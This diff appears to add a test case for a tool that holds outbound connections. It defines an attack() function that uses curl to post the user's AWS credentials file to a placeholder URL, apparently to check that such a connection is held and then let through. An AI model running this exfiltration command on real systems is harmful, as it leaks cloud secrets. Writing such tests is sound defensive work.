@@ -1,0 +1,4 @@
+# SPDX-License-Identifier: Apache-2.0
+TITLE="a held connect, allowed after two seconds, goes on at once"
+FORM=hold
+attack() { curl -s -m $((15 * EGRET_SLOW)) --data-binary @"$HOME/.aws/credentials" "$URL/"; }
